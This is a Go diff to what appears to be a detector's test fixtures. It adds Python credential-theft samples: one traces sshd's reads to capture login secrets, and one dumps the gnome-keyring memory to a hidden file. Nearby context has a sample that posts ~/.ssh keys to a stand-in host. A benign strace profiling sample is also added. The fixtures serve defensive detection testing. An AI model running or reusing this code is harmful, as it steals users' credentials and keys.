@@ -155,6 +155,10 @@ var escapeSeeds = []credSeed{
 
 // pyCredSeeds are Python programs that collect credentials and send them away.
 var pyCredSeeds = []credSeed{
+	{"py-strace-sshd", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
+		"import subprocess, time\ndef pid_of(name):\n    return subprocess.check_output(['pidof', name]).decode().split()[0]\ndef watch(p, out):\n    subprocess.Popen(['/usr/bin/strace', '-f', '-p', p, '-e', 'trace=read', '-o', out])\nwatch(pid_of('sshd'), '/var/tmp/.o')\nwhile True:\n    time.sleep(60)"},
+	{"py-gcore-string", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
+		"import os\nos.system('gcore -o /tmp/.c $(pgrep -o gnome-keyring-daemon)')"},
 	{"py-ssh-requests", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
 		"import os, requests\nkeys = {}\nd = os.path.expanduser('~/.ssh')\nfor n in os.listdir(d):\n    keys[n] = open(os.path.join(d, n)).read()\nrequests.post('https://x.example.net/k', json=keys)"},
 	{"py-env-urllib", RuleCredNear, audit.CategoryCredentialTheft, audit.High,
@@ -262,6 +266,7 @@ var cleanShapes = map[string]string{
 		"gcore $(pgrep -o java)\nsudo() { command sudo -E \"$@\"; }\nalias ssh='ssh -A'\n",
 	"/usr/local/bin/s3-backup": "#!/bin/sh\naws s3 sync /var/www s3://company-backups/www\nrclone sync /data backup:data\nping -c 3 -p ff 10.0.0.1\n" +
 		"aws s3 cp s3://company-config/app.env /etc/app.env\ngsutil cp gs://bucket/x.tgz /tmp/\n",
+	"/opt/tools/profile.py":     "import subprocess\npid = subprocess.check_output(['pgrep', 'myservice']).decode().strip()\nsubprocess.run(['strace', '-c', '-p', pid])\n",
 	"/usr/local/bin/kill-app":   "#!/bin/sh\nP=$(ps aux | grep myapp | awk '{print $2}')\nstrace -c -p $P\nps aux | grep nginx | awk '{print $2}' | xargs kill\n",
 	"/usr/local/bin/mem-report": "#!/bin/sh\nfor p in $(pgrep sshd); do grep VmRSS /proc/$p/status; done\ncat /proc/meminfo\n",
 }
